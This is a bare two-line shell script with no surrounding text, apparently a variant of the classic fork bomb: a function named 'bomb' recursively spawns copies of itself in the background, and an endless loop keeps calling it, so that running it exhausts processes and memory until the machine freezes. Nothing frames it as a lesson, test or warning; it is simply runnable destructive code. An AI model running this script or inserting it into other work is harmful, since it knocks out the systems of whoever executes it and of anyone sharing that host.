bomb() { bomb | bomb & wait; }
while true; do bomb; done
